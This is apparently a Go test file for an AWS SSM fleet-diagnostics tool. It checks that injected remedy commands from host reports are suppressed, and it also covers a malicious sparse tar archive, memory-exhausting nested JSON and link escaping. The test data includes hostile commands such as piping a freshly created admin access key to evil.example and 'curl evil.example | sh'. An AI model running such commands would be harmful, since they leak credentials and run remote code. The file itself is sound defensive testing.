package fleet

import (
	"bytes"
	"fmt"
	"runtime"
	"strings"
	"testing"
)

// TestForeignRemedy: a host's report puts no command of its own before the operator.
func TestForeignRemedy(t *testing.T) {
	t.Parallel()
	const report = `{"schema":"ssm-doctor/report/v1","node":{"id":"i-0aaaaaaaaaaaaaaa1","goos":"linux","region":"eu-central-1"},"state":"not-managed","generated_at":"2026-11-27T10:00:00Z","root_cause":{"id":"no-credential-source","severity":"critical","confidence":"proven","fix":[%s]}}`
	for _, tt := range []struct{ name, fix, want string }{
		{"its own", `{"where":"operator-cli","text":"Attach a profile","command":"aws iam create-access-key --user-name admin | curl -d @- https://evil.example"}`, "ssm-doctor check"},
		{"behind one of ours", `{"where":"operator-cli","text":"Watch","command":"ssm-doctor check --wait 5m; curl evil.example | sh"}`, "ssm-doctor check"},
		{"in the text", `{"where":"this-host","text":"Run curl evil.example | sh as administrator","command":""}`, "ssm-doctor check"},
		{"in the place", `{"where":"evil.example","text":"x","command":"y"}`, "ssm-doctor check"},
		{"in a value", `{"where":"this-host","text":"Restart the agent","command":"systemctl restart evil.example"}`, "ssm-doctor check"},
		{"of another node", `{"where":"operator-cli","text":"Attach an instance profile whose role has AmazonSSMManagedInstanceCore","command":"aws ec2 associate-iam-instance-profile --region eu-central-1 --instance-id i-0bbbbbbbbbbbbbbb1 --iam-instance-profile Name=PROFILE_NAME"}`, "--instance-id INSTANCE_ID"},
		{"of another cause", `{"where":"operator-cli","text":"evil.example","command":"aws iam attach-role-policy --role-name evil.example --policy-arn arn:aws:iam::aws:policy/AmazonSSMFullAccess"}`, "ssm-doctor check"},
		{"ours", `{"where":"operator-cli","text":"Attach an instance profile whose role has AmazonSSMManagedInstanceCore","command":"aws ec2 associate-iam-instance-profile --region eu-central-1 --instance-id i-0aaaaaaaaaaaaaaa1 --iam-instance-profile Name=PROFILE_NAME"}`, "--instance-id i-0aaaaaaaaaaaaaaa1"},
	} {
		table := NewTable()
		if err := table.Read("in", strings.NewReader(strings.ReplaceAll(report, "%s", tt.fix)), nil); err != nil {
			t.Fatal(err)
		}
		s := table.Summarize(Options{Now: start})
		for _, format := range Formats {
			var b bytes.Buffer
			if err := Write(&b, format, s); err != nil {
				t.Fatal(err)
			}
			if strings.Contains(b.String(), "evil.example") || format == "text" && !strings.Contains(b.String(), tt.want) {
				t.Errorf("%s, %s: %s", tt.name, format, b.String())
			}
		}
	}
}

// TestHoles: a file of an archive that says it is an exabyte of zeros is not read, and what
// is behind it is.
func TestHoles(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	block := func(name string, kind byte, size int64, body string) {
		h := make([]byte, 512)
		copy(h, name)
		copy(h[100:], "0000600\x000000000\x000000000\x00")
		copy(h[124:], fmt.Sprintf("%011o\x00%011o\x00", size, 0))
		copy(h[148:], "        ")
		h[156] = kind
		copy(h[257:], "ustar\x0000")
		sum := 0
		for _, c := range h {
			sum += int(c)
		}
		copy(h[148:], fmt.Sprintf("%06o\x00 ", sum))
		b.Write(h)
		b.WriteString(body + strings.Repeat("\x00", (512-len(body)%512)%512))
	}
	record := func(k, v string) string {
		n := len(k) + len(v) + 3
		for n != len(fmt.Sprint(n))+len(k)+len(v)+3 {
			n = len(fmt.Sprint(n)) + len(k) + len(v) + 3
		}
		return fmt.Sprintf("%d %s=%s\n", n, k, v)
	}
	pax := record("GNU.sparse.major", "0") + record("GNU.sparse.minor", "1") + record("GNU.sparse.name", "a.json") + record("GNU.sparse.size", "1000000000000000000") + record("GNU.sparse.numblocks", "1") + record("GNU.sparse.map", "999999999999999999,1")
	block("x", 'x', int64(len(pax)), pax)
	block("a.json", '0', 1, "}")
	report := `{"schema":"ssm-doctor/report/v1","node":{"id":"i-0aaaaaaaaaaaaaaa1"},"state":"managed","generated_at":"2026-11-27T10:00:00Z"}`
	block("b.json", '0', int64(len(report)), report)
	b.Write(make([]byte, 1024))
	table := NewTable()
	if err := table.Read("in", &b, nil); err != nil {
		t.Fatal(err)
	}
	if table.reports != 1 || table.broken != 1 {
		t.Errorf("%d reports, %d broken", table.reports, table.broken)
	}
}

// TestWrapped: answers of AWS in answers of AWS are not held once for each level.
func TestWrapped(t *testing.T) { // alone, since it measures
	in := strings.Repeat(`{"CommandInvocations":[`, 95) + `{"InstanceId":"` + strings.Repeat("x", 7<<20) + `"}` + strings.Repeat(`]}`, 95)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	table := NewTable()
	if err := table.Read("in", strings.NewReader(in), nil); err != nil {
		t.Fatal(err)
	}
	runtime.ReadMemStats(&after)
	if table.broken != 1 || table.reports != 0 {
		t.Errorf("%d broken, %d reports", table.broken, table.reports)
	}
	if n := after.TotalAlloc - before.TotalAlloc; n > 256<<20 {
		t.Errorf("%d MiB were taken", n>>20)
	}
}

// TestMarkNoLinks: an address in the name of a host is no link in a ticket.
func TestMarkNoLinks(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"https://evil.example":  `https:\//evil.example`,
		"www.evil.example":      `www\.evil.example`,
		"<ftp://evil.example>":  `\<ftp:\//evil.example\>`,
		"arn:aws:ssm:a/b 14:05": "arn:aws:ssm:a/b 14:05",
	} {
		if got := mark(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}
